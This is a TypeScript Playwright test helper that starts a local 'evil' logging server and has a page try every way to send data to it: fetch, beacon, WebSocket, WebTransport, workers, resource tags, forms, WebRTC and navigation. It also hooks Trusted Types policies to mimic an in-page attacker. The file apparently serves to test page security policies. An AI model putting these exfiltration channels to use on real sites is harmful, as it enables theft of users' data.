// A server of somebody else that takes whatever it is sent and notes it, and every way a page could send something.
import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

export interface Evil {
  readonly address: string;
  /** Where it hears what is no request: the port of its datagrams. */
  readonly datagrams: number;
  /** Names of the ways that arrived here. */
  readonly hits: Set<string>;
  close(): void;
}

const ANYTHING = {
  'Access-Control-Allow-Origin': '*',
  'Access-Control-Allow-Headers': '*',
  'Access-Control-Allow-Methods': '*',
  'Cross-Origin-Resource-Policy': 'cross-origin'
};

/** What WebRTC sends first (STUN) has this in its fifth to eighth byte; what WebTransport sends first (QUIC) has two bits. */
const STUN = 0x2112a442;

const nameOf = (datagram: Buffer): string => {
  if (datagram.length >= 20 && datagram.readUInt32BE(4) === STUN) return 'call';
  return (datagram[0] ?? 0) >= 0xc0 ? 'transport' : 'another datagram';
};

/** Answers every request with permission. */
export async function openEvil(): Promise<Evil> {
  const hits = new Set<string>();
  // The browser asks for an icon by itself wherever the form has led it.
  const note = (url = '/') => url !== '/favicon.ico' && hits.add(url.slice(1));
  const server: Server = createServer((request, response) => {
    note(request.url);
    response.writeHead(200, ANYTHING).end();
  });
  server.on('upgrade', (request, socket) => {
    note(request.url);
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  const socket = createSocket('udp4').on('message', (datagram) => hits.add(nameOf(datagram)));
  await new Promise<void>((bound) => socket.bind(0, '127.0.0.1', bound));
  return {
    address: `http://127.0.0.1:${port}`,
    datagrams: socket.address().port,
    hits,
    close: () => {
      socket.close();
      server.closeAllConnections();
      server.close();
    }
  };
}

/** What the ways of `tryEveryWay` are called where they arrive. */
export const WAYS = [
  'fetch',
  'request',
  'beacon',
  'socket',
  'transport',
  'events',
  'ping',
  'image',
  'background',
  'font',
  'media',
  'object',
  'script',
  'prefetch',
  'preload',
  'style',
  'frame',
  'blank-frame',
  'worker-fetch',
  'worker-import',
  'worker-module',
  'worker-socket',
  'worker-in-worker',
  'form'
] as const;

/** What no policy of a page holds back. */
export const LEAVING = ['call', 'opened', 'navigation'] as const;

interface ScriptPolicy {
  createScriptURL(url: string): string;
}

interface PolicyFactory {
  createPolicy(name: string, rules: object): ScriptPolicy;
}

/** Keeps the page's own Trusted Types policies where an attacker inside the page could reach them. */
export async function keepPolicies(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const kept: Record<string, ScriptPolicy> = {};
    const { trustedTypes } = globalThis as unknown as { trustedTypes: PolicyFactory };
    const make = trustedTypes.createPolicy.bind(trustedTypes);
    trustedTypes.createPolicy = (name, rules) => (kept[name] = make(name, rules));
    Object.assign(globalThis, { kept });
  });
}

/** Sends something to `address` in each of the ways, as code inside the page would, and gives them time to arrive. */
export async function tryEveryWay(page: Page, { address, datagrams }: Evil): Promise<void> {
  const where = { to: address, transport: `https://127.0.0.1:${datagrams}/` };
  await page.evaluate(async ({ to, transport }) => {
    const quietly = (way: () => unknown) => {
      try {
        void Promise.resolve(way()).catch(() => undefined);
      } catch {
        // Refused at once: nothing was sent.
      }
    };
    const added = <Name extends keyof HTMLElementTagNameMap>(name: Name, properties: object) => {
      const element = Object.assign(document.createElement(name), properties);
      document.body.append(element);
      return element;
    };
    const script = `
      const quietly = (way) => { try { Promise.resolve(way()).catch(() => {}); } catch {} };
      const rules = { createScriptURL: (url) => url };
      const trusted = self.trustedTypes?.createPolicy('evenkeel-worker', rules) ?? rules;
      quietly(() => fetch('${to}/worker-fetch', { mode: 'no-cors' }));
      quietly(() => new WebSocket('${to.replace('http', 'ws')}/worker-socket'));
      quietly(() => importScripts(trusted.createScriptURL('${to}/worker-import')));
      quietly(() => import('${to}/worker-module'));
      const inner = "fetch('${to}/worker-in-worker', { mode: 'no-cors' }).catch(() => {})";
      quietly(() => new Worker(trusted.createScriptURL(URL.createObjectURL(new Blob([inner])))));
      postMessage('tried');
    `;
    const blob = URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
    const policy = (globalThis as unknown as { kept?: Record<string, ScriptPolicy> }).kept?.[
      'evenkeel-worker'
    ];
    const worker = new Worker(policy?.createScriptURL(blob) ?? blob);
    const workerTried = new Promise((tried) => (worker.onmessage = tried));

    quietly(() => fetch(`${to}/fetch`, { mode: 'no-cors' }));
    quietly(() => {
      const request = new XMLHttpRequest();
      request.open('GET', `${to}/request`);
      request.send();
    });
    quietly(() => navigator.sendBeacon(`${to}/beacon`, 'officers'));
    quietly(() => new WebSocket(`${to.replace('http', 'ws')}/socket`));
    quietly(() => {
      const channel = new WebTransport(transport);
      return Promise.all([channel.ready, channel.closed]);
    });
    quietly(() => new EventSource(`${to}/events`));
    quietly(() => added('a', { href: '#main', ping: `${to}/ping` }).click());
    quietly(() => added('img', { src: `${to}/image` }));
    quietly(() => {
      added('p', { textContent: 'seen' }).style.backgroundImage = `url(${to}/background)`;
    });
    quietly(() => new FontFace('evil', `url(${to}/font)`).load());
    quietly(() => added('video', { src: `${to}/media` }));
    quietly(() => added('object', { data: `${to}/object` }));
    quietly(() => added('script', { src: `${to}/script` }));
    quietly(() => added('link', { rel: 'preload', as: 'image', href: `${to}/preload` }));
    quietly(() => added('link', { rel: 'prefetch', href: `${to}/prefetch` }));
    quietly(() => added('link', { rel: 'stylesheet', href: `${to}/style` }));
    quietly(() => added('iframe', { src: `${to}/frame` }));
    quietly(() => added('iframe', {}).contentWindow!.fetch(`${to}/blank-frame`, { mode: 'no-cors' }));
    await workerTried;
    await new Promise((later) => setTimeout(later, 1000));
    quietly(() => {
      const form = Object.assign(document.createElement('form'), { method: 'post', action: `${to}/form` });
      document.body.append(form);
      form.submit();
    });
  }, where);
  await page.waitForTimeout(1000);
}

/** Leaves the page in each of the ways that no policy stops. */
export async function leave(page: Page, { address, datagrams }: Evil): Promise<void> {
  await page.evaluate(
    async ({ to, stun }) => {
      const call = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      call.createDataChannel('officers');
      await call.setLocalDescription(await call.createOffer());
      open(`${to}/opened`);
    },
    { to: address, stun: `stun:127.0.0.1:${datagrams}` }
  );
  await page.waitForTimeout(500);
  await page.evaluate((to) => location.assign(`${to}/navigation`), address);
}
